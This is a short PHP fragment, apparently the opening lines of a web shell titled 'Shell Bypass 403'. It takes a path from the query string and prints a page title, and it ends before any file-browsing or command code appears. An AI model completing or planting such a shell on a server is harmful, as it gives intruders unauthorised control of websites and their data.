<?php
// Shell Bypass 403
$p = isset($_GET['p']) ? $_GET['p'] : '.';
echo '<title>Shell Bypass 403</title>';
